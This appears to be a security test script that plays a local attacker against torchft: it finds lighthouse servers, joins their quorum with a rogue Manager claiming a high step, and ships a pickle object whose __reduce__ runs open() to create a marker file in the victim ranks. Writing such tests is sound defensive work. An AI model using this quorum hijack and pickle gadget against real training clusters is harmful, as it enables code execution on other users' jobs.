"""Another user of the machine attacks a run with replica groups through torchft's lighthouse
(``python tests/scripts/ft_outsider.py WORK OUT MARKER DRIVER_PID``, started as root from the repository's
root; it drops to uid/gid 65534, nobody, before it touches the network).

Once ``WORK/lighthouse`` holds the lighthouse address the run's ranks were given, it looks for
every address it can learn: that one, and every listener of the driver's process and its
children that answers it like torchft's lighthouse (its ``/status`` page). Against
each it runs an ordinary torchft ``Manager`` of its own (its own store, process group and
``PGTransport``) that claims step 100000, whose state holds an object that creates ``MARKER``
when it is unpickled, and tries quorums until ``OUT/run.done`` exists (at most ``SECONDS``). What happened goes to
``OUT/outsider.txt`` (one line per try) at its end; ``OUT/outsider.started`` tells the ranks
that its first Manager was made or refused (its quorums go on while they train)."""

from __future__ import annotations

import encodings.idna  # noqa: F401 - socket.create_connection's, imported while it still can
import os
import socket
import sys
import time
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlparse

# everything it needs is imported before it drops to nobody (the interpreter's own folder is
# root's here): torch, torchft, their lazy parts
import torch
import torchft
import torchft.checkpointing.pg_transport
import torchft.manager
from torchft.checkpointing.pg_transport import PGTransport
from torchft.process_group import ProcessGroupGloo

#: the longest it tries quorums (it stops sooner once OUT/run.done exists)
SECONDS = 90.0
#: torchft's waits (a quorum with the ranks, a heal) for the outsider's Manager
WAIT = 10.0
STEP = 100_000
NOBODY = 65534


class Payload:
    """Unpickled, it creates the marker file: proof that the outsider's bytes ran in a rank."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.marker, "w")


def listeners(driver: int) -> list[tuple[str, int]]:
    """Every TCP listener of the driver's process and its children (asked as root: more than
    another user learns from ``/proc/net/tcp``, where other runs of this machine's tests are too)."""
    import psutil

    process = psutil.Process(driver)
    found = set()
    for each in [process, *process.children(recursive=True)]:
        try:
            found |= {(c.laddr.ip, c.laddr.port) for c in each.net_connections("inet4") if c.status == "LISTEN"}
        except psutil.Error:
            continue
    return sorted(("127.0.0.1" if ip == "0.0.0.0" else ip, port) for ip, port in found)


def looks_like_a_lighthouse(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=1) as probe:
            probe.settimeout(1)
            probe.sendall(b"GET /status HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            answer = b""
            while chunk := probe.recv(65536):
                answer += chunk
            return b"quorum" in answer.lower()
    except OSError:
        return False


def attack(address: str, marker: str, log: list[str], tried: Path) -> None:
    """An ordinary torchft Manager against ``address``, claiming step :data:`STEP`; ``tried`` is
    written once it was made (or refused), before its quorums."""
    store = torch.distributed.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    pg = ProcessGroupGloo(timeout=timedelta(seconds=5))
    wait = timedelta(seconds=WAIT)
    try:
        manager = torchft.Manager(
            pg=pg,
            min_replica_size=1,
            load_state_dict=lambda state: None,
            state_dict=lambda: {"model": {"weight": torch.zeros(1)}, "payload": Payload(marker)},
            rank=0,
            world_size=1,
            store_addr="127.0.0.1",
            store_port=store.port,
            lighthouse_addr=address,
            replica_id="outsider_9",
            hostname="127.0.0.1",
            timeout=wait,
            quorum_timeout=wait,
            connect_timeout=wait,
            checkpoint_transport=PGTransport(pg, timeout=wait, device=torch.device("cpu")),
        )
    except Exception as exc:  # noqa: BLE001 - the outcome is the record
        log.append(f"{address} refused: {type(exc).__name__}: {str(exc)[:200]}")
        tried.write_text("tried\n")
        return
    tried.write_text("tried\n")
    manager.load_state_dict({"step": STEP, "batches_committed": 0})
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline and not (tried.parent / "run.done").exists():
        try:
            manager.start_quorum()
            manager.wait_quorum()
            log.append(f"{address} in a quorum of {manager.num_participants()} at step {manager.current_step()}")
            manager.should_commit()
        except Exception as exc:  # noqa: BLE001
            log.append(f"{address} quorum failed: {type(exc).__name__}: {str(exc)[:200]}")
            time.sleep(0.5)
    manager.shutdown(wait=False)


def main(work: Path, out: Path, marker: str, driver: int) -> None:
    given = work / "lighthouse"
    deadline = time.monotonic() + 240  # the run's timeout: a busy machine starts barrier jobs slowly
    while not given.exists():
        if time.monotonic() > deadline:
            raise TimeoutError(f"the run's ranks did not write {given} within 240 s")
        time.sleep(0.05)
    candidates = listeners(driver)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    assert os.geteuid() == NOBODY
    url = urlparse(given.read_text().strip())
    assert url.hostname is not None and url.port is not None
    found = {(url.hostname, url.port)} | {where for where in candidates if looks_like_a_lighthouse(*where)}
    log = [f"uid {os.geteuid()} found {sorted(found)}"]
    for host, port in sorted(found):
        attack(f"http://{host}:{port}", marker, log, out / "outsider.started")
    (out / "outsider.txt").write_text("\n".join(log) + "\n")


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
